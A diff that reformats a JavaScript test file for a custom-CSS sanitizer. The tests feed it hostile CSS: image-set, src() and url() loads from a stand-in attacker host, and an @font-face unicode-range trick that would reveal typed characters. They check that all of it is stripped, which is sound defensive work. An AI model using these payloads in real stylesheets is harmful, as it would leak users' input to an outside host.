@@ -45,13 +45,17 @@ describe('sanitizeCustomCss', () => {
   })
 
   it('loads nothing through functions that take a URL as a string', () => {
-    const css = sanitizeCustomCss('a{background:image-set("https://192.168.1.1/x.png" 1x)} b{background:-webkit-image-set("https://evil.example/y.png" 1x)} c{background:src("https://evil.example/z")}')
+    const css = sanitizeCustomCss(
+      'a{background:image-set("https://192.168.1.1/x.png" 1x)} b{background:-webkit-image-set("https://evil.example/y.png" 1x)} c{background:src("https://evil.example/z")}',
+    )
     expect(css).not.toMatch(/image-set\s*\(|\bsrc\s*\(/i)
     expect(css.match(/invalid\(/g)).toHaveLength(3)
   })
 
   it('drops fonts, whose unicode-range would tell which characters were typed', () => {
-    const css = sanitizeCustomCss('@font-face{font-family:leak;src:url(https://evil.example/a.woff);unicode-range:U+0061} p{font-family:leak}')
+    const css = sanitizeCustomCss(
+      '@font-face{font-family:leak;src:url(https://evil.example/a.woff);unicode-range:U+0061} p{font-family:leak}',
+    )
     expect(css).not.toMatch(/@font-face|evil/i)
     expect(css).toContain('p{font-family:leak}')
   })
@@ -66,9 +70,12 @@ describe('sanitizeCustomCss', () => {
   })
 
   it("allows url() only to the store's own image hosts and paths when told them", () => {
-    const css = sanitizeCustomCss('a{background:url(https://cdn.shop.example/a.png)} b{background:url(https://evil.example/b.png)} c{background:url(/mockups/c.svg)} d{background:url(//evil.example/d)}', {
-      imageHosts: ['cdn.shop.example'],
-    })
+    const css = sanitizeCustomCss(
+      'a{background:url(https://cdn.shop.example/a.png)} b{background:url(https://evil.example/b.png)} c{background:url(/mockups/c.svg)} d{background:url(//evil.example/d)}',
+      {
+        imageHosts: ['cdn.shop.example'],
+      },
+    )
     expect(css).toContain('url("https://cdn.shop.example/a.png")')
     expect(css).toContain('url("/mockups/c.svg")')
     expect(css).not.toContain('evil')
